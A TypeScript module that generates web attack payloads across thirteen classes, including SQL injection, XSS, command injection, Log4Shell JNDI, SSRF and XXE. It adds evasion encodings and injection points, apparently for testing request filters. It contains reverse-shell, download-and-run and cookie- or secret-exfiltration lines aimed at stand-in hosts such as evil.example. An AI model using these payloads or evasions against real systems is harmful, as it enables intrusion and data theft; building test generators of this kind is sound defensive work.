import { createChoice, filled } from "./generated.ts";
import type { RequestChanges } from "./managed-request.ts";

interface Kind {
  readonly forms: readonly string[];
  readonly slots?: Readonly<Record<string, readonly string[]>>;
  readonly encodings: readonly (keyof typeof ENCODINGS)[];
  readonly places?: readonly (keyof typeof PLACES)[];
}

const hex = (text: string, prefix: string, width = 2): string =>
  Array.from(text, (char) => (/[a-z0-9 ]/i.test(char) ? char : `${prefix}${char.charCodeAt(0).toString(16).padStart(width, "0")}`)).join(
    "",
  );

/** Changes that attackers make to a text before they send it. */
const ENCODINGS = {
  none: (text: string): string => text,
  upper: (text: string): string => text.toUpperCase(),
  mixed: (text: string): string => Array.from(text, (char, at) => (at % 2 === 0 ? char.toUpperCase() : char)).join(""),
  twice: (text: string): string => hex(text, "%"),
  thrice: (text: string): string => hex(text, "%").replaceAll("%", "%25"),
  entities: (text: string): string => text.replace(/[<>"'()]/g, (char) => `&#${char.charCodeAt(0)};`),
  unicode: (text: string): string => hex(text, "\\u", 4),
  percentU: (text: string): string => hex(text, "%u", 4),
  comments: (text: string): string => text.replace(/(?<=\w) (?=\w)/g, "/**/"),
  tabs: (text: string): string => text.replace(/(?<=\w) (?=\w)/g, "\t"),
  wide: (text: string): string => text.replace(/[<>'"]/g, (char) => String.fromCodePoint(char.charCodeAt(0) + 0xfee0)),
  ifs: (text: string): string => text.replace(/(?<=[a-z]) (?=[-/\w])/g, "${IFS}"),
  quoted: (text: string): string => text.replace(/\b(cat|wget|curl|uname|whoami|sleep|ping)\b/g, (word) => `${word[0]}'${word.slice(1)}'`),
  backslashes: (text: string): string => text.replaceAll("/", "\\"),
  overlong: (text: string): string => text.replaceAll("/", "%c0%af"),
} as const;

const form = (value: string): string => `a=1&q=${encodeURIComponent(value)}`;
const post = (type: string, body: string): RequestChanges => ({
  headers: { "content-type": [type] },
  body: Buffer.from(body).toString("latin1"),
});

const PLACES = {
  query: (value: string): RequestChanges => ({ query: form(value) }),
  form: (value: string): RequestChanges => post("application/x-www-form-urlencoded", form(value)),
  json: (value: string): RequestChanges => post("application/json", JSON.stringify({ user: { name: [value] } })),
  part: (value: string): RequestChanges =>
    post("multipart/form-data; boundary=X", `--X\r\nContent-Disposition: form-data; name="q"\r\n\r\n${value}\r\n--X--\r\n`),
  cookie: (value: string): RequestChanges => ({ headers: { Cookie: [`a=1; q=${encodeURIComponent(value)}`] } }),
  header: (value: string): RequestChanges => ({
    headers: { "X-Forwarded-For": [Buffer.from(value.replace(/[\r\n]/g, " ")).toString("latin1")] },
  }),
  agent: (value: string): RequestChanges => ({
    headers: { "User-Agent": [Buffer.from(value.replace(/[\r\n]/g, " ")).toString("latin1")] },
  }),
  name: (value: string): RequestChanges => ({ query: `${encodeURIComponent(value)}=1` }),
  xml: (value: string): RequestChanges =>
    post("application/xml", `<r><q>${value.replace(/[<&]/g, (char) => (char === "<" ? "&lt;" : "&amp;"))}</q></r>`),
} as const;

const EVERYWHERE = Object.keys(PLACES) as readonly (keyof typeof PLACES)[];
const VALUES: Kind["places"] = ["query", "form", "json", "part", "cookie", "xml"];

const SQL: Kind = {
  forms: [
    "‹open›‹gap›or‹gap›‹true›‹end›",
    "‹open› and ‹true›‹end›",
    "‹open› union ‹all›select ‹columns› from ‹table›‹end›",
    "‹open› union ‹all›select ‹columns›‹end›",
    "‹open› and ‹wait›‹end›",
    "‹open› or ‹wait›‹end›",
    "‹open›; ‹statement›‹end›",
    "‹open› order by ‹number›‹end›",
    "‹open› and (select ‹column› from ‹table› limit 1)='a'‹end›",
    "‹open› and ascii(substr((select ‹column› from ‹table› limit 1),1,1))>‹number›‹end›",
    "‹open› and extractvalue(1,concat(0x7e,version()))‹end›",
    "‹open› having ‹true›‹end›",
    "‹open› and exists(select * from ‹table›)‹end›",
    "‹open›||(select ‹column› from ‹table›)||'",
    "‹open› procedure analyse()‹end›",
    "‹open› or ‹column› like '%a%'‹end›",
    "‹open› or ‹column› is not null‹end›",
    "‹open› and if(‹true›,sleep(5),0)‹end›",
    "(select ‹wait›)",
    "‹open› into outfile '/var/www/x.php'‹end›",
    "‹open› rlike (select (case when ‹true› then 1 else 0x28 end))‹end›",
    "‹open› or ‹number› between 1 and 99‹end›",
    "‹open› or ‹column› in (1,2,3)‹end›",
  ],
  slots: {
    open: ["1", "-1", "1'", "'", "x'", '"', 'x"', "1)", "1')", "1'))", '1")', "admin'", "%'"],
    gap: [" ", "  ", "/**/", "\t", "+"].slice(0, 4),
    end: ["-- ", "#", "--", " -- -", "/*"],
    true: ["1=1", "'a'='a'", "2>1", "7=7", "true", "5 between 1 and 9", "1 like 1", "not 1=2", "3<>4"],
    all: ["", "all ", "distinct "],
    columns: ["1,2,3", "null,null", "username,password", "1,@@version,3", "concat(login,0x3a,pass)", "'a','b'"],
    table: ["users", "members", "information_schema.tables", "accounts", "sysobjects"],
    column: ["id", "password", "name", "email"],
    wait: ["sleep(5)", "benchmark(5000000,md5(1))", "pg_sleep(5)", "1=(select sleep(3))"],
    statement: [
      "drop table users",
      "insert into users values(1,2)",
      "exec xp_cmdshell 'dir'",
      "waitfor delay '0:0:5'",
      "update users set a=1",
      "select pg_sleep(3)",
      "delete from users",
    ],
    number: ["1", "9", "77"],
  },
  encodings: ["none", "none", "upper", "mixed", "twice", "comments", "tabs"],
  places: EVERYWHERE,
};

const XSS: Kind = {
  forms: [
    "‹out›<script>‹call›</script>",
    "‹out›<script src=//‹host›/x.js></script>",
    "‹out›<img src=x onerror=‹call›>",
    "‹out›<svg onload=‹call›>",
    "‹out›<svg/onload=‹call›>",
    "<body onload=‹call›>",
    "‹out›<‹element› on‹event›=‹call›>x",
    "<a href=javascript:‹call›>x</a>",
    "javascript:‹call›",
    "<iframe src=javascript:‹call›></iframe>",
    "<iframe srcdoc='<b>'></iframe>",
    "<form action=javascript:‹call›><input type=submit>",
    '" on‹event›="‹call›',
    "' on‹event›='‹call›",
    "'-‹call›-'",
    '";‹call›//',
    "<object data=javascript:‹call›>",
    "<embed src=javascript:‹call›>",
    "<base href=//‹host›/>",
    "<meta http-equiv=refresh content='0;url=javascript:‹call›'>",
    "<math><mi xlink:href=javascript:‹call›>x",
    "<details open ontoggle=‹call›>",
    "<button formaction=javascript:‹call›>x",
    "<svg><animate attributename=href values=javascript:‹call›>",
    "data:text/html,<script>‹call›</script>",
    "<marquee onstart=‹call›>",
  ],
  slots: {
    out: ["", '">', "'>", "</textarea>", "</title>", "-->"],
    call: [
      "alert(1)",
      "alert(document.domain)",
      "prompt(1)",
      "confirm(1)",
      "alert`1`",
      "fetch('//evil.example/'+document.cookie)",
      "eval(atob('YQ=='))",
    ],
    host: ["evil.example", "203.0.113.7"],
    element: ["input", "div", "p", "video", "audio", "select", "a", "x"],
    event: ["click", "mouseover", "focus", "pointerenter", "animationend", "wheel"],
  },
  encodings: ["none", "none", "upper", "mixed", "twice", "entities", "unicode", "wide", "thrice", "percentU"],
  places: EVERYWHERE,
};

const COMMANDS: Kind = {
  forms: [
    "‹before›‹separator›‹command›‹after›",
    "‹before›‹separator› ‹command›‹after›",
    "$(‹command›)",
    "`‹command›`",
    "‹before›$(‹command›)",
    "‹before›`‹command›`",
  ],
  slots: {
    before: ["", "1", "127.0.0.1", "a.txt", "'", '"', "x)", "test"],
    separator: [";", "|", "||", "&&", "&", "\n"],
    command: [
      "cat /etc/passwd",
      "id -u",
      "uname -a",
      "whoami",
      "sleep 10",
      "ping -c 5 203.0.113.7",
      "wget http://evil.example/x",
      "curl http://evil.example/x|sh",
      "ls -la /",
      "nc -e /bin/sh 203.0.113.7 99",
      "/bin/cat /etc/hosts",
      "ifconfig",
      "netstat -an",
      "dir c:\\",
      "type c:\\boot.ini",
      "bash -i >& /dev/tcp/203.0.113.7/9 0>&1",
      "python -c 'import os'",
      "nslookup a.evil.example",
      "powershell -enc SQBFAFgA",
      "rm -rf /tmp/x",
      "echo x > /tmp/y",
      "ps -ef",
      "tasklist",
      "ipconfig /all",
      "perl -e 'print 1'",
      "chmod 777 x",
    ],
    after: ["", "", ";", " #", "|"],
  },
  encodings: ["none", "none", "twice", "quoted", "ifs", "thrice"],
  places: VALUES,
};

const TRAVERSAL: Kind = {
  forms: [
    "‹up›‹up›‹up›‹file›",
    "/static/‹up›‹up›‹file›",
    "/‹file›",
    "file:///‹file›",
    "‹up›‹up›‹up›‹up›‹up›‹file›\0.png",
    "....//....//....//‹file›",
    "php://filter/convert.base64-encode/resource=‹page›",
    "c:\\windows\\win.ini",
    "‹up›‹up›windows/win.ini",
    "..;/..;/‹page›",
  ],
  slots: {
    up: ["../", "..//", ".././", "../"],
    file: [
      "etc/passwd",
      "etc/shadow",
      "proc/self/environ",
      "var/log/apache2/access.log",
      "etc/hosts",
      "root/.ssh/id_rsa",
      "etc/nginx/nginx.conf",
      "home/www/.bash_history",
      "etc/hostname",
    ],
    page: ["index", "config.php", "../config"],
  },
  encodings: ["none", "none", "twice", "thrice", "backslashes", "overlong", "percentU"],
  places: VALUES,
};

const TEMPLATES: Kind = {
  forms: [
    "{{‹number›*‹number›}}",
    "${‹number›*‹number›}",
    "<%= ‹number›*‹number› %>",
    "#{‹number›*‹number›}",
    "{{‹probe›}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('‹command›').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('‹command›')}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{['‹command›']|filter('system')}}",
    "<%= system('‹command›') %>",
    "{php}system('‹command›');{/php}",
    '<#assign e="freemarker.template.utility.Execute"?new()>${e("‹command›")}',
    "#set($e=1)$e.getClass().forName('java.lang.Runtime')",
    "{{constructor.constructor('return process')()}}",
    "{{request.application.__globals__}}",
    "*{T(java.lang.Runtime).getRuntime()}",
    "{{range.constructor('return global.process')()}}",
    "{{lipsum.__globals__.os.popen('‹command›')}}",
    "{{cycler.__init__.__globals__}}",
  ],
  slots: {
    number: ["7", "31", "1337"],
    probe: ["config", "self", "request", "settings", "7*'7'"],
    command: ["id", "cat /etc/passwd", "whoami"],
  },
  encodings: ["none", "none", "twice", "thrice"],
  places: EVERYWHERE,
};

const JNDI: Kind = {
  forms: [
    "${jndi:‹scheme›://‹host›/a}",
    "${${lower:j}ndi:‹scheme›://‹host›/a}",
    "${${::-j}${::-n}${::-d}${::-i}:‹scheme›://‹host›/a}",
    "${j${k8s:k5:-ND}i:‹scheme›://‹host›}",
    "${jndi:${lower:l}dap://‹host›/a}",
    "${${env:X:-j}ndi:‹scheme›://‹host›/}",
    "${jndi:‹scheme›://${env:AWS_SECRET_ACCESS_KEY}.‹host›}",
    "x${jndi:‹scheme›://‹host›:1389/b}y",
  ],
  slots: { scheme: ["ldap", "ldaps", "rmi", "dns", "iiop", "corba"], host: ["evil.example", "203.0.113.7", "127.0.0.1#evil.example"] },
  encodings: ["none", "none", "mixed", "twice", "unicode"],
  places: EVERYWHERE,
};

const NOSQL: Kind = {
  forms: [
    "', $‹operator›: '1",
    '{"$‹operator›": ""}',
    "' || '1'=='1",
    "';return true;var a='",
    "'; return this.‹field› == 'a",
    "' || this.‹field›.match(/^a/) || 'a'=='b",
    "$where: 'sleep(5000)'",
    "1'; db.users.drop(); var x='1",
    "true, $where: '1 == 1'",
    "this.‹field› == 'a'",
  ],
  slots: { operator: ["where", "ne", "gt", "regex", "nin"], field: ["password", "username", "secret"] },
  encodings: ["none", "none", "twice"],
  places: VALUES,
};

const PHP: Kind = {
  forms: [
    "<?php ‹call›; ?>",
    "<?=‹call›?>",
    ";‹call›;",
    "‹call›;",
    "';‹call›;//",
    "${@‹call›}",
    "{${‹call›}}",
    'O:‹number›:"‹name›":1:{s:1:"a";i:1;}',
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "php://input",
    "$_‹global›['x']",
    "eval($_‹global›[x]);",
  ],
  slots: {
    call: ["system('id')", "phpinfo()", "passthru('ls')", "print(md5(1))", "exec('id')", "eval('x')", "shell_exec('id')"],
    number: ["4", "8"],
    name: ["User", "stdClass", "Monolog"],
    global: ["GET", "POST", "REQUEST"],
  },
  encodings: ["none", "none", "twice"],
  places: VALUES,
};

const JAVA: Kind = {
  forms: [
    "rO0ABXNy‹base›",
    "aced0005‹hex›",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='‹command›')}",
    "${(#a=@java.lang.Runtime@getRuntime().exec('‹command›'))}",
    "T(java.lang.Runtime).getRuntime().exec('‹command›')",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=‹command›",
    "new java.lang.ProcessBuilder('‹command›').start()",
    "redirect:${#context['x']}",
    "org.apache.commons.collections.functors.InvokerTransformer",
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example"]]]]',
  ],
  slots: {
    base: ["ABFqYXZhLnV0aWwuSGFzaE1hcA", "ABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "AC5qYXZheC5tYW5hZ2VtZW50", "ADJzdW4ucmVmbGVjdA"],
    hex: ["737200116a617661", "7372002e6a617661", "73720017", "7372001a"],
    command: ["id", "whoami", "calc", "touch /tmp/a", "curl evil.example"],
  },
  encodings: ["none", "none", "twice"],
  places: EVERYWHERE,
};

const SSRF: Kind = {
  forms: [
    "http://‹local›/",
    "http://‹local›/admin",
    "http://‹local›:‹port›/",
    "http://‹metadata›",
    "gopher://127.0.0.1:‹port›/_x",
    "dict://‹local›:‹port›/",
    "http://a@‹local›/",
    "file:///etc/hosts",
  ],
  slots: {
    local: [
      "127.0.0.1",
      "localhost",
      "[::1]",
      "2130706433",
      "0x7f000001",
      "0177.0.0.1",
      "127.1",
      "0.0.0.0",
      "[::ffff:127.0.0.1]",
      "127.0.0.1.nip.io",
      "localtest.me",
    ],
    port: ["22", "6379", "9200", "11211", "3306", "8500"],
    metadata: ["169.254.169.254/latest/meta-data/", "metadata.google.internal/computeMetadata/v1/", "100.100.100.200/latest/meta-data/"],
  },
  encodings: ["none", "none", "twice"],
  places: VALUES,
};

const SPLITTING: Kind = {
  forms: [
    "‹before›\r\nSet-Cookie: a=b",
    "‹before›\nLocation: http://evil.example",
    "‹before›\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "‹before›\r\nX-Injected: 1",
    "‹before›\r\n\r\n<script>alert(1)</script>",
    "‹before›\r\nContent-Type: text/html",
    "a@b.example\r\nBcc: c@d.example",
  ],
  slots: { before: ["", "x", "/path", "en-US", "https://example.com/"] },
  encodings: ["none", "twice", "upper"],
  places: ["query", "form", "json", "cookie"],
};

const NODE: Kind = {
  forms: [
    "require('child_process').‹run›('‹command›')",
    "global.process.mainModule.require('child_process').‹run›('‹command›')",
    "__proto__[‹field›]",
    "constructor[prototype][‹field›]",
    '{"__proto__":{"‹field›":true}}',
    "_$$ND_FUNC$$_function(){require('child_process').exec('‹command›')}()",
    "this.constructor.constructor('return process')().exit()",
    "process.binding('spawn_sync')",
    "a[__proto__][‹field›]",
  ],
  slots: { run: ["exec", "execSync", "spawn"], command: ["id", "ls", "whoami"], field: ["isAdmin", "role", "outputFunctionName"] },
  encodings: ["none", "none", "twice"],
  places: ["query", "form", "part", "cookie", "name"],
};

const XML: Kind = {
  forms: [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "‹file›">]><r>&x;</r>',
    '<!DOCTYPE r SYSTEM "‹file›"><r/>',
    '<!DOCTYPE r [<!ENTITY % p PUBLIC "a" "‹file›"> %p;]><r/>',
    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="‹file›"/></r>',
    "*)(uid=*))(|(uid=*",
    "‹name›)(&)",
    "*)(objectClass=*",
    "‹name›*)((|userPassword=*)",
    "' or count(/*)=1 or 'a'='b",
    "'] | //‹name›/* | a['",
    '<!--#exec cmd="id"-->',
    '<!--#include file="‹file›"-->',
    '<esi:include src="http://evil.example/"/>',
  ],
  slots: {
    file: ["file:///etc/passwd", "http://evil.example/x.dtd", "php://filter/resource=x", "c:/windows/win.ini"],
    name: ["admin", "user", "x"],
  },
  encodings: ["none", "none", "twice"],
  places: ["query", "form", "json", "part"],
};

export const KINDS = { SQL, XSS, COMMANDS, TRAVERSAL, TEMPLATES, JNDI, NOSQL, PHP, JAVA, SSRF, SPLITTING, NODE, XML } as const;

export interface GeneratedAttack {
  readonly text: string;
  readonly place: string;
  readonly request: RequestChanges;
}

/** `count` different requests of a kind: its forms, each encoded in one of its ways, in one of its targets. */
export function generatedAttacks(kind: keyof typeof KINDS, count: number, seed: number): readonly GeneratedAttack[] {
  const { forms, slots = {}, encodings, places = VALUES }: Kind = KINDS[kind];
  const choose = createChoice(seed);
  const attacks = new Map<string, GeneratedAttack>();
  for (let tries = 0; attacks.size < count && tries < 20 * count; tries++) {
    const text = ENCODINGS[choose(encodings)](filled(forms[tries % forms.length]!, slots, choose));
    const place = choose(places!);
    attacks.set(`${place} ${text}`, { text, place, request: PLACES[place](text) });
  }
  return [...attacks.values()];
}
